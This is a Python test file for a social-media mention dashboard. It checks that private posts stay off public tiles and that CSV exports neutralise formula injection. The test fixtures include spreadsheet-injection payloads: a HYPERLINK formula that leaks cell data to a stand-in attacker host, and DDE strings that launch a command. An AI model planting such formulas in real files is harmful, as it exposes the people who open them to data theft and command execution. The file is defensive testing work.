"""Private posts are work for the console, never content for a wall; CSV exports are inert."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

from app.config import Config
from app.model import Mention
from app.store.db import open_reader
from app.store.schema import ALL
from app.store.writer import IngestBatch, StoreWriter
from app.wallquery import PRIVATE_PLACEHOLDER, latest, post, queue_head, totals

SECRET = "my order number is 4471 and my address is 12 Elm Street"


def _mention(native_id: str, text: str, *, private: bool) -> Mention:
    return Mention(
        network="mastodon", native_id=native_id, source="mastodon", text=text,
        created_at=datetime.now(UTC), author="@carol@example.social", author_name="Carol",
        directed_at_us=True, private=private,
    )  # fmt: skip


def _store(db_path: Path, config: Config, mentions: list[Mention]) -> None:
    with StoreWriter(db_path, config, maintenance=False) as writer:
        writer.submit(IngestBatch("mastodon", "mastodon", mentions, {})).result(30)


def test_a_private_post_is_queued_but_reaches_no_tile(db_path: Path, demo_config: Config) -> None:
    public = _mention("1", "@lumio my Lumio X2 will not charge, help?", private=False)
    private = _mention("2", f"@lumio {SECRET} — Lumio refund please", private=True)
    _store(db_path, demo_config, [public, private])
    conn = open_reader(db_path)
    try:
        # the console's work: both are queued
        queued = {r[0] for r in conn.execute("SELECT mention_id FROM queue")}
        assert queued == {public.id, private.id}
        assert conn.execute("SELECT private FROM mentions WHERE id = ?", (private.id,)).fetchone() == (1,)
        # the feeds (every mention, or one topic) and the spotlight never see it
        assert [p.id for p in latest(conn, ALL)] == [public.id]
        for topic in demo_config.topics:
            assert private.id not in {p.id for p in latest(conn, topic.name)}
        assert post(conn, private.id) is None
        assert post(conn, public.id) is not None
        # the rollups count public posts only
        now = time.time()
        assert totals(conn, ALL, now - 3600, now + 60).n == 1
        # the queue tile keeps its place in the line, never its words or author
        rows = {p.id: p for p, _state, _ts in queue_head(conn, limit=10)}
        assert rows[private.id].text == PRIVATE_PLACEHOLDER
        assert rows[private.id].author == "" and SECRET not in repr(rows[private.id])
        assert rows[public.id].text == public.text
    finally:
        conn.close()


def _run(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "cfg"), "XDG_DATA_HOME": str(tmp_path / "data")}
    env.pop("WATCHFLOOR_CONFIG", None)
    return subprocess.run(
        [sys.executable, "-m", "app", *args], capture_output=True, text=True, env=env, timeout=120
    )


def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_text(
    db_path: Path, demo_config: Config, tmp_path: Path
) -> None:
    hostile = [
        '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    mentions = [_mention(str(i), text, private=False) for i, text in enumerate(hostile, start=10)]
    for m in mentions:
        m.author_name = m.text  # a display name is hostile too
    _store(db_path, demo_config, mentions)
    proc = _run(tmp_path, "export", "--db", str(db_path), "--what", "mentions", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert len(rows) == len(hostile)
    for row in rows:
        for key in ("text", "author_name"):
            assert row[key].startswith("'"), (key, row[key])
            assert row[key][1:] in hostile
    # JSON lines are data, not a spreadsheet: the text stays exactly as posted
    proc = _run(tmp_path, "export", "--db", str(db_path), "--what", "mentions", "--format", "jsonl")
    assert proc.returncode == 0, proc.stderr
    texts = [json.loads(line)["text"] for line in proc.stdout.splitlines()]
    assert sorted(texts) == sorted(hostile)
    labels = {json.loads(line)["sentiment_label"] for line in proc.stdout.splitlines()}
    assert labels <= {"negative", "neutral", "positive"}
